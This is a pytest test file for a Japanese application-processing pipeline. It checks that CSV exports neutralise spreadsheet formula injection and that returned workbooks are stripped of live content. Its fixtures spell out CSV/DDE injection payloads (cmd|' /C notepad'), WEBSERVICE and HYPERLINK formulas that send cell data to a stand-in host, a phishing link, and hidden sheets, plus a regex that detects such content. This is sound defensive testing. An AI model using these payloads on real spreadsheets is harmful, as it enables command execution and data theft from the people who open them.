"""Nothing an applicant typed becomes live in the program that opens our outputs (issue 27):
the CSV of `bansou export` escapes every cell a spreadsheet would read as a formula."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from pipeline.cli import main
from pipeline.core.settings import RoundSettings
from pipeline.export import FORMULA_STARTS, inert
from pipeline.run import run_round
from tests.conftest import ROUND_TOML
from tests.roundfactory import RUN_AT, add_form, org

# Each dangerous first character in another column, and in file names.
PAYLOADS = {
    "代表者職氏名": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"開く\")",
    "担当部署": "+cmd|' /C notepad'!A0",
    "取組課題の内容": "-1+2+cmd|' /C notepad'!A0",
    "現在の取組状況": "@SUM(1+1)*cmd|' /C notepad'!A0",
    "連携先の関係機関・団体": "\t=DDE(\"cmd\";\"/C notepad\";\"!A0\")",
    "伴走支援で目指す成果": "\r=WEBSERVICE(\"http://example.invalid\")",
}
FILE_NAMES = ["=cmd|' notepad'!A0.xlsx", "+plus.xlsx", "-minus.xlsx", "@at.xlsx"]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_start_is_escaped(text: str) -> None:
    assert inert(text) == "'" + text
    assert inert("普通の文") == "普通の文" and inert("03-1234-5678") == "03-1234-5678"


@pytest.mark.slow
def test_no_exported_cell_starts_a_formula(tmp_path: Path, inbox: Path, blank_dir: Path,
                                           settings: RoundSettings) -> None:
    add_form(inbox, "payloads.xlsx", org("式の会", "新宿区", PAYLOADS), blank_dir=blank_dir)
    for number, name in enumerate(FILE_NAMES):
        add_form(inbox, name, org(f"名前{number}の会", "八王子市"), blank_dir=blank_dir)
    outbox = inbox.parent / "outbox"
    run_round(inbox, outbox, settings, RUN_AT)
    target = tmp_path / "list.csv"
    result = CliRunner().invoke(main, ["export", "--outbox", str(outbox), "-o", str(target)])
    assert result.exit_code == 0, result.output
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    header = rows[0]
    by_file = {row[header.index("ファイル名")]: row for row in rows[1:]}
    assert set(by_file) >= {"'" + name for name in FILE_NAMES}  # escaped, and still distinct
    payload = by_file["payloads.xlsx"]
    for label, text in PAYLOADS.items():
        shown = payload[header.index(label)]
        assert shown.startswith("'") and shown[1:].strip() == text.strip(), label


# --- File names: any name the file system allows, shown unambiguously ---------------------------

@pytest.mark.slow
def test_control_and_bidi_characters_in_file_names_are_shown_escaped_and_stay_distinct(
        inbox: Path, blank_dir: Path, settings: RoundSettings) -> None:
    names = {"申請\x07.xlsx": "申請\\x07.xlsx", "申請\x1b.xlsx": "申請\\x1b.xlsx",
             "report\u202excod.xlsx": "report<U+202E>xcod.xlsx",
             "見\u200bえない.xlsx": "見<U+200B>えない.xlsx", "tab\there.xlsx": "tab\\x09here.xlsx"}
    for number, name in enumerate(names):
        add_form(inbox, name, org(f"名前{number}の会", "新宿区"), blank_dir=blank_dir)
    outbox = inbox.parent / "outbox"
    result = CliRunner().invoke(main, ["run", "--inbox", str(inbox), "--outbox", str(outbox),
                                       "--config", str(ROUND_TOML)],
                                env={"SOURCE_DATE_EPOCH": str(int(RUN_AT.timestamp()))})
    assert result.exit_code == 0, result.output
    ledger = openpyxl.load_workbook(outbox / "選定結果.xlsx")["受付一覧"]
    header = [cell.value for cell in ledger[1]]
    shown = [row[header.index("ファイル名")] for row in ledger.iter_rows(min_row=2, values_only=True)]
    assert sorted(shown) == sorted(names.values())
    everything = result.output + "".join(
        path.read_text(encoding="utf-8") for path in outbox.rglob("*.txt"))
    assert not any(ch in everything for ch in "\x07\x1b\u202e\u200b\t")


# --- 差戻し workbooks carry nothing live ---------------------------------------------------------

_PART_ALLOWED = re.compile(
    r"^(\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core|custom)\.xml|xl/workbook\.xml|"
    r"xl/_rels/workbook\.xml\.rels|xl/styles\.xml|xl/theme/theme1\.xml|xl/sharedStrings\.xml|"
    r"xl/worksheets/sheet\d+\.xml|xl/worksheets/_rels/sheet\d+\.xml\.rels|xl/comments/comment\d+\.xml|"
    r"xl/drawings/commentsDrawing\d+\.vml)$")
_LIVE = re.compile(r"WEBSERVICE|INDIRECT|DDE|HYPERLINK|https?://|cmd\|", re.IGNORECASE)


def _hostile_form(path: Path, blank_dir: Path) -> Path:
    add_form(path.parent, path.name, org("生きた会", "新宿区", {"電話番号": "12"}), blank_dir=blank_dir)
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["申請書"]
    sheet.conditional_formatting.add("B1:B60", FormulaRule(
        formula=['LEN(WEBSERVICE("http://example.invalid/?"&ENCODEURL($B$8)))>0']))
    for formula in ('=WEBSERVICE("http://example.invalid/x")', "=INDIRECT('http://example.invalid'!A1)"):
        rule = DataValidation(type="custom", formula1=formula)
        rule.add("D5")
        sheet.add_data_validation(rule)
    sheet["E3"].hyperlink = "http://example.invalid/phish"
    secret = workbook.create_sheet("裏")
    secret["A1"] = "事前相談の有無"
    secret["B1"] = "あり"
    secret.sheet_state = "veryHidden"
    workbook.create_sheet("隠し").sheet_state = "hidden"
    workbook.defined_names["外部"] = DefinedName("外部", attr_text="'http://example.invalid/[x.xlsx]S'!$A$1")
    workbook.save(path)
    with zipfile.ZipFile(path, "a") as archive:  # parts openpyxl never writes back
        archive.writestr("customXml/item1.xml", "<root>payload</root>")
        archive.writestr("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 ole")
        archive.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
    return path


@pytest.mark.slow
def test_a_returned_workbook_carries_nothing_live(inbox: Path, blank_dir: Path,
                                                  settings: RoundSettings) -> None:
    _hostile_form(inbox / "live.xlsx", blank_dir)
    outbox = inbox.parent / "outbox"
    result = run_round(inbox, outbox, settings, RUN_AT)
    assert result.ledger.set_index("file").loc["live.xlsx", "decision"] == "要修正"
    returned = outbox / "差戻し" / "live_要修正.xlsx"
    with zipfile.ZipFile(returned) as archive:
        parts = archive.namelist()
        assert [part for part in parts if not _PART_ALLOWED.match(part)] == []
        xml = {part: archive.read(part).decode("utf-8") for part in parts}
    for part, text in xml.items():  # every formula-bearing element and attribute
        for found in re.findall(r"<(?:\w+:)?(?:f|formula\d?|definedName)\b[^>]*>([^<]*)<", text):
            assert not _LIVE.search(found), (part, found)
        assert "<conditionalFormatting" not in text, part
    sheets = re.findall(r"<sheet [^>]*/>", xml["xl/workbook.xml"])
    hidden = [s for s in sheets if "state=\"visible\"" not in s]
    assert len(hidden) == 1 and 'name="リスト"' in hidden[0] and "veryHidden" not in hidden[0]
    assert not any("裏" in s or "隠し" in s for s in sheets)
    workbook = openpyxl.load_workbook(returned)
    lists = workbook["リスト"]
    assert lists["A1"].value == "区市町村（介護予防・日常生活支援総合事業担当部署等）"
    kept = workbook["申請書"].data_validations.dataValidation
    assert kept and all(rule.type in (None, "list") for rule in kept)
